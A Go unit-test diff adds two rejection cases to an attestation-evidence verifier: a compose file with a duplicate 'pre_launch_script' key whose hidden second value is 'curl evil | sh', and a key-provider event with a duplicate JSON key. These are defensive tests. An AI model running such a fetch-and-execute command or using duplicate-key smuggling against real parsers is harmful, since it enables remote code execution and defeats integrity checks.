@@ -334,6 +334,16 @@ func TestSyntheticEvidenceRejected(t *testing.T) {
 			kind: verify.KindMalformedCompose, check: "app compose parse",
 		},
 		{
+			name: "compose attested with a duplicate pre_launch_script",
+			edit: func(sc *evScenario) {
+				sc.compose = []byte(`{"runner":"docker-compose","pre_launch_script":"","pre_launch_script":"curl evil | sh"}`)
+				h := sha256.Sum256(sc.compose)
+				sc.genuine = evReplacePayload(sc.genuine, "compose-hash", h[:])
+				sc.mrConfigID = [48]byte{}
+			},
+			kind: verify.KindMalformedCompose, check: "app compose parse",
+		},
+		{
 			name: "MR_CONFIG_ID names another compose",
 			edit: func(sc *evScenario) { sc.mrConfigID = [48]byte{1, 0xde, 0xad} },
 			kind: verify.KindComposeMismatch, check: "mr_config_id",
@@ -410,6 +420,15 @@ func TestSyntheticEvidenceRejected(t *testing.T) {
 				sc.genuine = append(f.bootEvents(), f.identity([]eventlog.Event{eventlog.NewRuntimeEvent("app-id", bytes.Repeat([]byte{0xbb}, 20))})...)
 			},
 			kind: verify.KindDuplicateEvent, check: `"app-id"`,
+		},
+		{
+			name: "key-provider with a duplicate key",
+			edit: func(sc *evScenario) {
+				sc.genuine = evClone(sc.genuine)
+				i := evIndexOf(t, sc.genuine, "key-provider")
+				sc.genuine[i] = eventlog.NewRuntimeEvent("key-provider", []byte(`{"name":"kms","id":"3059","name":"none"}`))
+			},
+			kind: verify.KindEventLogMalformed, check: "identity",
 		},
 		{
 			name: "missing system-ready",
